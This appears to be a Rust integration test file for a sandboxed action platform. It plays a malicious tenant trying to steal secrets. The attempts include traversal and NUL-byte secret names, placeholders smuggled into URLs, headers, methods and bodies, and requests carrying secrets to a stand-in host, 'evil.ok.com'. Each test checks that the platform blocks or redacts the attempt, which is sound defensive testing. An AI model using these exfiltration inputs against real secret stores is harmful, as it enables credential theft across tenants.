//! S: secrets that their action, another tenant's, or who reads the store wants to have.
//!
//! Here are the attacks that an action can make. Those on the store and on the API need the others' tools: S07 (write), S09,
//! S11 and S12 are in `crates/phonebox/tests/it/secrets.rs` and `crates/cli/tests/it`, S14 is in `neighbours.rs`.

use phonebox_test_guests::PROBE;
use serde_json::{Value, json};

use crate::area::{Area, Case, Settings, log, revealed, with_manifest};
use crate::canary::{ACCOUNT, TOKEN, VICTIM_TOKEN, spellings_of};

/// Two origins, and secrets that the tests give.
const RULES: &str = r#"
[[egress]]
origin = "https://evil.ok.com"
methods = ["GET", "POST"]
[[egress]]
origin = "https://other.ok.com"
methods = ["GET", "POST"]
[secrets.ACCOUNT]
optional = true
[secrets.QUOTED]
optional = true
[secrets.READABLE]
optional = true
"#;
/// As `ACCOUNT` stands in a URL.
const ACCOUNT_ENCODED: &str = "AC7f%263e%3D9%3B0a%252e%20~1d";
const QUOTED: &str = "q\"uo\\ted/{}&=%+é-Rk4";

pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
    let area = Area::start(filter, Settings::default()).await;

    area.case("S01", "secrets of others, by name, path, case, NUL, 1 MiB", async |case| {
        let tenant = deploy(case, RULES).await;
        let long = "T".repeat(200_000);
        let names = [
            "TWILIO_AUTH_TOKEN", "victim/TWILIO_AUTH_TOKEN", "../victim/TWILIO_AUTH_TOKEN", "token", "Token", "TOKEN\0", "TOKEN ",
            "\u{ff34}OKEN", "", "%54OKEN", "*", "QUOTED\nTOKEN", &long,
        ];
        let mut lines = vec!["secrets".to_owned()];
        lines.extend(names.iter().map(|name| {
            let body = json!({ "url": "https://evil.ok.com/s01", "body": format!("got:{{{{{name}}}}}:end") });
            format!("http {body}")
        }));
        lines.extend(names.iter().map(|name| {
            let url = format!("https://evil.ok.com/s01/x{{{{{name}}}}}x?k={{{{{name}}}}}");
            format!("http {}", json!({ "url": url }))
        }));
        let mut told = Vec::new();
        for lines in lines.chunks(5) {
            told.extend(log(&case.probe(&tenant, lines).await));
        }
        assert_eq!(told[0], "ACCOUNT QUOTED READABLE TOKEN", "the names that the action has");
        let arrived = case.area.evil.met.with("/s01 ");
        assert_eq!(arrived.len(), names.len(), "received {told:#?}");
        for request in &arrived {
            assert!(request.ends_with("got::end"), "received {request}");
        }
        let in_urls = case.area.evil.met.with("/s01/xx?k= ");
        assert_eq!(in_urls.len(), names.len(), "received {told:#?}");
        format!("{} names found nothing", names.len())
    })
    .await;

    area.case(
        "S02",
        "a sealed secret to an origin that it is not bound to",
        async |case| {
            let tenant = deploy(case, RULES).await;
            let bearer = [("authorization", "Bearer {{TOKEN}}")];
            let to = |host: &str| {
                format!(
                    "http {}",
                    json!({ "url": format!("https://{host}/s02"), "headers": bearer })
                )
            };
            let report = case
                .probe(&tenant, &[to("evil.ok.com"), to("other.ok.com")])
                .await;
            let arrived = case.area.evil.met.with("/s02 ");
            let [request] = &arrived[..] else {
                panic!("arrived {arrived:#?}\nreceived {report:#}");
            };
            assert!(
                request.contains("host: evil.ok.com")
                    && request.contains(&format!("Bearer {TOKEN}")),
                "arrived {request}"
            );
            denied(&report, 1);
            // In the path and in the query, by either import.
            let places = ["/s02/{{ACCOUNT}}/send", "/s02/send?key={{ACCOUNT}}"];
            for (import, path) in ["http", "wasi"]
                .iter()
                .flat_map(|one| places.map(|path| (one, path)))
            {
                let to = |host: &str| {
                    let url = format!("https://{host}{path}");
                    format!(
                        "{import} {}",
                        json!({ "url": url, "authority": host, "path": path })
                    )
                };
                let before = case.area.evil.met.with("/s02/").len();
                let report = case
                    .probe(&tenant, &[to("evil.ok.com"), to("other.ok.com")])
                    .await;
                let arrived = case.area.evil.met.with("/s02/").split_off(before);
                let [request] = &arrived[..] else {
                    panic!("sent {import} {path}\narrived {arrived:#?}\nreceived {report:#}");
                };
                let sent = path.replace("{{ACCOUNT}}", ACCOUNT_ENCODED);
                assert!(
                    request.contains("host: evil.ok.com")
                        && request.contains(&format!("POST {sent} HTTP/1.1\r\n")),
                    "arrived {request}"
                );
                denied(&report, 1);
                let exchange = &report["exchanges"][0];
                assert_eq!(
                    exchange["secrets"],
                    json!(["ACCOUNT"]),
                    "received {exchange:#}"
                );
                let recorded = path.split('?').next().unwrap_or_default();
                let recorded = recorded.replace("{{ACCOUNT}}", "[secret:ACCOUNT]");
                assert_eq!(exchange["path"], json!(recorded), "received {exchange:#}");
            }
            // The same by a rule that signs for the action.
            let rules = RULES.replace(
            "origin = \"https://other.ok.com\"",
            "origin = \"https://other.ok.com\"\nauth = { type = \"bearer\", token = \"{TOKEN}\" }",
        );
            let signing = deploy_as(case, "-signing", &rules).await;
            let line = format!(
                "http {}",
                json!({ "url": "https://other.ok.com/s02-signed" })
            );
            let report = case.probe(&signing, &[line]).await;
            denied(&report, 0);
            assert!(case.area.evil.met.with("/s02-signed").is_empty());
            "nothing arrived at the other origin".to_owned()
        },
    )
    .await;

    area.case("S04", "what stands for a secret, where no secret is put", async |case| {
        let tenant = deploy(case, RULES).await;
        let at = "https://evil.ok.com";
        let requests = [
            json!({ "url": format!("{at}/s04?{{{{ACCOUNT}}}}") }),
            json!({ "url": format!("{at}/s04?{{{{ACCOUNT}}}}=x") }),
            json!({ "url": format!("{at}/s04?a=x;{{{{ACCOUNT}}}}=x") }),
            json!({ "url": format!("{at}/s04?a=%2{{{{ACCOUNT}}}}") }),
            json!({ "url": format!("{at}/s04#{{{{ACCOUNT}}}}") }),
            json!({ "url": format!("{at}/s04?key=<<a:{{{{ACCOUNT}}}}>>") }),
            json!({ "url": format!("{at}/s04/<<a:{{{{ACCOUNT}}}}>>") }),
            // It has a `/` in it.
            json!({ "url": format!("{at}/{{{{TOKEN}}}}/s04") }),
            json!({ "url": "https://evil.ok.com:{{ACCOUNT}}/s04" }),
            json!({ "url": "https://{{ACCOUNT}}@evil.ok.com/s04" }),
            json!({ "url": "https://x:{{ACCOUNT}}@evil.ok.com/s04" }),
            json!({ "url": "{{ACCOUNT}}://evil.ok.com/s04" }),
            json!({ "url": format!("{at}/s04"), "headers": [["user-agent", "{{TOKEN}}"]] }),
            json!({ "url": format!("{at}/s04"), "headers": [["referer", "https://x.example/{{TOKEN}}"]] }),
            json!({ "url": format!("{at}/s04"), "headers": [["{{TOKEN}}", "x"]] }),
            json!({ "url": format!("{at}/s04"), "headers": [["idempotency-key", "{{TOKEN}}"]] }),
            json!({ "url": format!("{at}/s04"), "headers": [["authorization", "Own <<{{TOKEN}}>>"]] }),
            json!({ "url": format!("{at}/s04"), "body": "{{TOKEN}}" }),
            json!({ "url": format!("{at}/s04"), "headers": [["content-type", "text/xml"]], "body": "<k>{{TOKEN}}</k>" }),
            json!({ "url": format!("{at}/s04"), "headers": [["content-type", "application/json"]], "body": "{\"{{TOKEN}}\": 1}" }),
            json!({ "url": format!("{at}/s04"), "headers": [["content-type", "application/json"]], "body": "{\"a\": \"<<{{TOKEN}}>>\"}" }),
            json!({ "method": "{{TOKEN}}", "url": format!("{at}/s04") }),
            json!({ "url": format!("https://{}.ok.com/s04", "{{TOKEN}}") }),
        ];
        let lines: Vec<_> = requests.iter().map(|one| format!("http {one}")).collect();
        let wasi = ["user-agent", "x-other"].map(|name| {
            let body = json!({ "authority": "evil.ok.com", "path": "/s04", "headers": [[name, "{{TOKEN}}"]] });
            format!("wasi {body}")
        });
        let lines: Vec<_> = lines.into_iter().chain(wasi).collect();
        let told = case.probe_each(&tenant, &lines).await;
        for (sent, told) in lines.iter().zip(&told) {
            let refused = ["RequestDenied", "RequestMethodInvalid", "RequestUriInvalid", "refused: "];
            assert!(
                refused.iter().any(|refusal| told.contains(refusal)),
                "sent {sent}\nreceived {told}"
            );
        }
        let arrived = case.area.evil.met.with("s04");
        assert!(arrived.is_empty(), "arrived {arrived:#?}");
        format!("{} refused", lines.len())
    })
    .await;

    area.case("S06", "what stood for a secret in an earlier run, or for another tenant", async |case| {
        let tenant = deploy(case, RULES).await;
        // The cache outlives a run.
        let keep = r#"{"url": "https://evil.ok.com/echo", "headers": [["content-type", "application/json"]], "body": "{}"}"#;
        let first = case
            .probe(&tenant, &["cache-keep TOKEN".to_owned(), format!("http {keep}")])
            .await;
        assert_eq!(log(&first)[0], "kept", "received {first:#}");
        let again = format!(
            "http {}",
            json!({ "url": "https://evil.ok.com/s06", "headers": [["authorization", "Bearer ((TOKEN))"]] })
        );
        let in_url = ["s06/((TOKEN))", "s06?key=((TOKEN))"]
            .map(|path| format!("http {}", json!({ "url": format!("https://evil.ok.com/{path}") })));
        let later = case.probe(&tenant, &[vec![again], in_url.to_vec()].concat()).await;
        (0..3).for_each(|request| denied(&later, request));
        assert!(case.area.evil.met.with("/s06").is_empty(), "received {later:#}");
        "inert".to_owned()
    })
    .await;

    area.case("S07", "quotes in a secret's value, in JSON and in a form", async |case| {
        let tenant = deploy(case, RULES).await;
        let body = |kind: &str, body: &str| {
            format!(
                "http {}",
                json!({ "url": "https://evil.ok.com/s07", "headers": [["content-type", kind]], "body": body })
            )
        };
        let report = case
            .probe(
                &tenant,
                &[
                    body("application/json", "{\"key\": \"{{QUOTED}}\"}"),
                    body("application/x-www-form-urlencoded", "key={{QUOTED}}&to=x"),
                ],
            )
            .await;
        let arrived = case.area.evil.met.with("/s07 ");
        let [text, form] = &arrived[..] else {
            panic!("arrived {arrived:#?}\nreceived {report:#}");
        };
        let of = |request: &str| request.split_once("\r\n\r\n").unwrap().1.to_owned();
        assert_eq!(serde_json::from_str::<Value>(&of(text)).unwrap(), json!({ "key": QUOTED }));
        let form = of(form);
        let mut parts = form.split('&');
        let key = parts.next().unwrap().strip_prefix("key=").unwrap();
        let key = percent_encoding::percent_decode_str(key).decode_utf8().unwrap();
        assert_eq!((key.as_ref(), parts.next(), parts.next()), (QUOTED, Some("to=x"), None));
        // In a query it is one value, and in a path, which its slash would divide, it is none.
        let urls = ["/s07-url?key={{QUOTED}}&to=x", "/s07-url/{{QUOTED}}/x"];
        let lines = urls.map(|path| format!("http {}", json!({ "url": format!("https://evil.ok.com{path}") })));
        let report = case.probe(&tenant, &lines).await;
        let arrived = case.area.evil.met.with("/s07-url");
        let [request] = &arrived[..] else {
            panic!("arrived {arrived:#?}\nreceived {report:#}");
        };
        let query = request.split([' ', '?']).nth(2).unwrap();
        let (key, to) = query.strip_prefix("key=").unwrap().split_once('&').unwrap();
        let key = percent_encoding::percent_decode_str(key).decode_utf8().unwrap();
        assert_eq!((key.as_ref(), to), (QUOTED, "to=x"));
        denied(&report, 1);
        "one value each".to_owned()
    })
    .await;

    area.case("S16", "a provider that repeats what it was sent", async |case| {
        let tenant = deploy(case, RULES).await;
        let lines: Vec<_> = ["http", "wasi"]
            .iter()
            .flat_map(|import| {
                ["Bearer {{TOKEN}}", "Basic <<user:{{TOKEN}}>>"].map(|value| {
                    let request = json!({
                        "url": "https://evil.ok.com/echo", "authority": "evil.ok.com", "path": "/echo", "barred": true,
                        "headers": [["authorization", value], ["content-type", "application/json"]],
                        "body": "{\"a\": \"{{TOKEN}}\"}",
                    });
                    format!("{import} {request}")
                })
            })
            .collect();
        for line in &lines {
            let report = case.probe(&tenant, std::slice::from_ref(line)).await;
            let told = log(&report).concat().replace('|', "");
            assert!(told.contains("[secret:TOKEN]"), "sent {line}\nreceived {told}");
            for (how, spelling) in spellings_of(TOKEN) {
                assert!(!told.contains(&spelling), "sent {line}\nreceived it {how}: {told}");
            }
        }
        // The request line, in a body and as a redirect has it.
        for path in ["/echo?a={{ACCOUNT}}", "/redirect?302&/x/y?b={{ACCOUNT}}"] {
            let line = format!("http {}", json!({ "url": format!("https://evil.ok.com{path}"), "barred": true, "show_headers": true }));
            let report = case.probe(&tenant, std::slice::from_ref(&line)).await;
            let told = log(&report).concat().replace('|', "");
            assert!(told.contains("=[secret:ACCOUNT]"), "sent {line}\nreceived {told}");
            for (how, spelling) in spellings_of(ACCOUNT) {
                assert!(!told.contains(&spelling), "sent {line}\nreceived it {how}: {told}");
            }
            let sent = path.replace("{{ACCOUNT}}", ACCOUNT_ENCODED);
            assert_eq!(case.area.evil.met.with(&sent).len(), 1, "so the secret was sent: {sent}");
        }
        let mut arrived = case.area.evil.met.with(&format!("Bearer {TOKEN}"));
        arrived.retain(|request| request.starts_with("POST /echo "));
        assert_eq!(arrived.len(), 2, "so the secret was sent: {arrived:#?}");
        "taken out of the answers".to_owned()
    })
    .await;

    area.finish("S").await
}

/// The attacker's action, with a secret that is bound to one of its origins.
async fn deploy(case: &Case<'_>, rules: &str) -> String {
    deploy_as(case, "", rules).await
}

async fn deploy_as(case: &Case<'_>, suffix: &str, rules: &str) -> String {
    let tenant = case.tenant(suffix);
    let path = case.area.write(&tenant, &with_manifest(PROBE.bytes, rules));
    let secrets = json!({
        "ACCOUNT": { "value": ACCOUNT, "origins": ["https://evil.ok.com"] },
        "TOKEN": { "value": TOKEN, "origins": ["https://evil.ok.com"] },
        "QUOTED": QUOTED,
        "READABLE": revealed("readable-value"),
    });
    let answer = case.upload_file(&tenant, &path, secrets).await;
    assert!(answer["deployed"].is_object(), "received {answer}");
    assert!(!answer.to_string().contains(VICTIM_TOKEN));
    tenant
}

/// Sees that a request was denied for a secret, and that its author is told which.
#[track_caller]
fn denied(report: &Value, request: usize) {
    let exchange = &report["exchanges"][request];
    assert_eq!(
        exchange["decision"]["reason"], "secret",
        "received {report:#}"
    );
    let hint = exchange["error"]["hint"].as_str().unwrap_or_default();
    assert!(!hint.is_empty(), "received {exchange:#}");
}
